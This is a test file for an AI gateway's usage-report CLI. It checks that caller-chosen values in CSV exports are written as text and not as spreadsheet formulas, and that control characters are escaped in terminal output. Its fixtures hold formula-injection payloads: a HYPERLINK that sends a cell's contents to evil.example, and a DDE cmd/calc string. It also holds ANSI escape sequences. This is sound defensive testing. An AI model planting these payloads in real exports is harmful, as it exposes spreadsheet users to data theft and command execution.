/**
 * The CSV files finance opens in a spreadsheet (`usage export`, `usage report --format csv`,
 * `usage refusals --format csv`) hold what callers chose: user ids, teams and cost centres from
 * their keys or token claims, and the model name a caller sent (a failed call is reported under
 * the model it asked for). No cell may begin with `=`, `+`, `-`, `@`, a tab or a carriage return,
 * which a spreadsheet would run as a formula; quoting stays right for commas and quotes.
 */
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { runUsageCommand } from '../../src/admin/cli.js';
import { sha } from '../fixtures/policies.js';
import { connectHttp, startTestGateway, type TestGateway } from '../helpers/gateway.js';

const NOW = Date.parse('2026-11-25T10:00:00.000Z');
const WINDOW = ['--from', '2026-11-25T00:00:00Z', '--to', '2026-11-26T00:00:00Z'];

const USER = '=HYPERLINK("http://evil.example/?"&A1,"open")';
const TEAM = '+SUM(A1:A9)';
const COST_CENTRE = '@cc-9';
const MODEL = "-2+3+cmd|' /C calc'!A0";

const POLICY = `
version: 1
providers:
  demo: { kind: demo }
tiers:
  premium: [demo/large]
  standard: [demo/medium]
defaultTier: standard
apiKeys:
  - { id: k-mallory, sha256: ${sha('key-mallory')}, user: '${USER}', teams: ['${TEAM}'], costCenter: '${COST_CENTRE}' }
  - { id: k-tab, sha256: ${sha('key-tab')}, user: "\\t=1+1", teams: [plain] }
budgets:
  - { id: user-weekly, scope: user, window: { calendar: week }, limit: { tokens: 100000 } }
rules:
  - { id: no-premium, when: "request.tier == 'premium'", effect: deny, message: No premium. }
`;

/** RFC 4180 CSV: rows of cells, quotes undone. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i]!;
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') (cell += '"'), i++;
      else if (c === '"') quoted = false;
      else cell += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') row.push(cell), (cell = '');
    else if (c === '\n') row.push(cell), rows.push(row), (row = []), (cell = '');
    else cell += c;
  }
  return rows;
}

/** The cells a spreadsheet would run as a formula. */
const formulas = (rows: string[][]) => rows.flat().filter((c) => /^[=+\-@\t\r]/.test(c) && !/^-?\d+(\.\d+)?$/.test(c));

let gw: TestGateway;
let work: string;
let events: string;

beforeAll(async () => {
  work = mkdtempSync(join(tmpdir(), 'tollgate-audit-csv-'));
  events = join(work, 'events.jsonl');
  gw = await startTestGateway(POLICY, { now: () => NOW });
  const mallory = await connectHttp(gw.mcpUrl, 'key-mallory');
  const tab = await connectHttp(gw.mcpUrl, 'key-tab');
  await mallory.callTool({ name: 'complete', arguments: { prompt: 'hello' } });
  await mallory.callTool({ name: 'complete', arguments: { prompt: 'hello', model: MODEL } }); // failed: UNKNOWN_MODEL
  await mallory.callTool({ name: 'complete', arguments: { prompt: 'hello', tier: 'premium' } }); // refused by the rule
  await tab.callTool({ name: 'complete', arguments: { prompt: 'hi' } });
  await mallory.close();
  await tab.close();
  await gw.idle();
  writeFileSync(events, gw.events.map((e) => JSON.stringify(e)).join('\n') + '\n');
});

afterAll(async () => {
  await gw?.close();
  rmSync(work, { recursive: true, force: true });
});

describe('CSV a spreadsheet opens', () => {
  it('writes a caller-chosen user, team and cost centre in usage export as text, not formulas', async () => {
    const rows = parseCsv(await runUsageCommand(['export', '--events', events, ...WINDOW], {}));
    expect(formulas(rows)).toEqual([]);
    expect(rows.slice(1).map((r) => r.slice(2, 5))).toEqual([
      ["'\t=1+1", 'plain', ''],
      [`'${USER}`, `'${TEAM}`, `'${COST_CENTRE}`],
    ]);
  });

  it('writes the FOCUS export without a formula cell', async () => {
    const rows = parseCsv(await runUsageCommand(['export', '--events', events, ...WINDOW, '--format', 'focus'], {}));
    expect(rows).toHaveLength(3);
    expect(formulas(rows)).toEqual([]);
  });

  it('writes the model a caller asked for in usage report --by model as text', async () => {
    const rows = parseCsv(await runUsageCommand(['report', '--events', events, '--by', 'model', '--window', 'day', '--format', 'csv', ...WINDOW], {}));
    expect(formulas(rows)).toEqual([]);
    expect(rows.map((r) => r[2]).sort()).toEqual([`'${MODEL}`, '(none)', 'demo/medium', 'model'].sort());
  });

  it('writes users, teams and cost centres in usage report as text', async () => {
    for (const by of ['user', 'team', 'cost-center']) {
      const rows = parseCsv(await runUsageCommand(['report', '--events', events, '--by', by, '--window', 'day', '--format', 'csv', ...WINDOW], {}));
      expect(formulas(rows), by).toEqual([]);
    }
    const users = parseCsv(await runUsageCommand(['report', '--events', events, '--by', 'user', '--window', 'day', '--format', 'csv', ...WINDOW], {}));
    expect(users.slice(1).map((r) => r[2]).sort()).toEqual([`'${USER}`, "'\t=1+1"].sort());
  });

  it('writes the refused user and team in usage refusals as text', async () => {
    const rows = parseCsv(await runUsageCommand(['refusals', '--events', events, '--by', 'user,team,code', '--format', 'csv', ...WINDOW], {}));
    expect(rows.map((r) => r.slice(0, 4))).toEqual([
      ['user', 'team', 'code', 'refusals'],
      [`'${USER}`, `'${TEAM}`, 'POLICY_DENIED', '1'],
    ]);
  });
});

describe('tables printed to a terminal', () => {
  it('shows the control characters of a model a caller sent as escapes, so that they cannot drive the terminal', async () => {
    const sent = 'demo/\u001b[2J\u001b]0;pwned\u0007';
    const file = join(work, 'events-control.jsonl');
    writeFileSync(file, readFileSync(events, 'utf8').split(MODEL).join(JSON.stringify(sent).slice(1, -1)));
    const out = await runUsageCommand(['report', '--events', file, '--by', 'model', '--window', 'day', ...WINDOW], {});
    expect(out).not.toMatch(/[\u0000-\u0009\u000b-\u001f\u007f-\u009f]/);
    expect(out).toContain('demo/\\x1b[2J\\x1b]0;pwned\\x07');
  });
});
